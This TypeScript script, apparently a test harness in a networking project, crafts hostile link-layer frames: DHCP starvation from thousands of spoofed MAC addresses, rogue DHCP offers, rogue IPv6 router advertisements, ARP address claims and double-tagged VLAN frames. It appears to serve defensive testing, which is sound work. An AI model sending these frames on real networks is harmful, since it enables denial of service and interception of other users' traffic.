/**
 * Frames that no honest device sends: `link-attack.ts INTERFACE KIND [ADDRESS]`. `starve`: DHCP from 10,000 MAC addresses;
 * `server`: offers of a DHCP server; `router`: router advertisements; `claim`: ARP that claims ADDRESS; `tags`: frames with
 * two tags. From the interface's own MAC address but for the first.
 */

import { setTimeout as pause } from 'node:timers/promises';
import { encodeArp } from '../../../src/net/arp.ts';
import { encodeUdp } from '../../../src/net/datagram.ts';
import { type Dhcp4Type, encodeDhcp4 } from '../../../src/net/dhcp4.ts';
import { EtherType, encodeFrame } from '../../../src/net/ethernet.ts';
import { ALL_NODES, encodeNdp } from '../../../src/net/ndp.ts';
import { advertisement } from '../../../src/net/router-advertiser.ts';
import { allocate } from '../../../src/sys/memory.ts';
import { interfaceMac, MAX_FRAME, PacketSocket } from '../../../src/sys/packet.ts';

const VNET_HEADER = 10;
const BROADCAST = 'ff:ff:ff:ff:ff:ff';
const [interfaceName = '', kind = '', address = ''] = process.argv.slice(2);
const own = interfaceMac(interfaceName);
const socket = new PacketSocket(interfaceName);
const memory = allocate(MAX_FRAME);

function send(etherType: number, payload: Uint8Array, source = own, destination = BROADCAST): void {
  const frame = encodeFrame({ destination, source, tag: null, etherType, payload });
  memory.bytes.set(frame, VNET_HEADER);
  socket.send(memory, VNET_HEADER + frame.length);
}

function dhcp(type: Dhcp4Type, mac: string, [sourcePort, destinationPort]: readonly [number, number]): Uint8Array {
  const payload = encodeDhcp4({
    type,
    transactionId: 1,
    broadcast: true,
    clientAddress: '0.0.0.0',
    yourAddress: type === 'offer' ? '100.80.77.77' : '0.0.0.0',
    relayAddress: '0.0.0.0',
    mac,
    options: {},
  });
  const source = type === 'offer' ? '100.80.77.1' : '0.0.0.0';
  return encodeUdp({ source, destination: '255.255.255.255', sourcePort, destinationPort, payload });
}

const attacks: Readonly<Record<string, () => Promise<void> | void>> = {
  async starve() {
    for (let i = 0; i < 10_000; i++) {
      const mac = `06:aa:00:00:${[i >> 8, i].map((n) => (n & 255).toString(16).padStart(2, '0')).join(':')}`;
      send(EtherType.ipv4, dhcp('discover', mac, [68, 67]), mac);
      if (i % 50 === 0) await pause(1);
    }
  },
  server: () => send(EtherType.ipv4, dhcp('offer', own, [67, 68])),
  router() {
    const settings = {
      mac: own,
      gateway: 'fd99::1',
      range: { address: 'fd99::', length: 64 },
      domain: 'evil',
      mtu: 1280,
    };
    const packet = encodeNdp(advertisement(settings, false), 'fe80::bad', ALL_NODES);
    send(EtherType.ipv6, packet, own, '33:33:00:00:00:01');
  },
  claim() {
    const claimed = { senderMac: own, senderAddress: address, targetMac: own, targetAddress: address };
    for (const operation of ['request', 'reply'] as const) send(EtherType.arp, encodeArp({ operation, ...claimed }));
  },
  tags: () => send(0x8100, Uint8Array.of(0, 5, 0x81, 0, 0, 6, 8, 0, 0x45)),
};

console.log('begun');
await attacks[kind]!();
console.log('done');
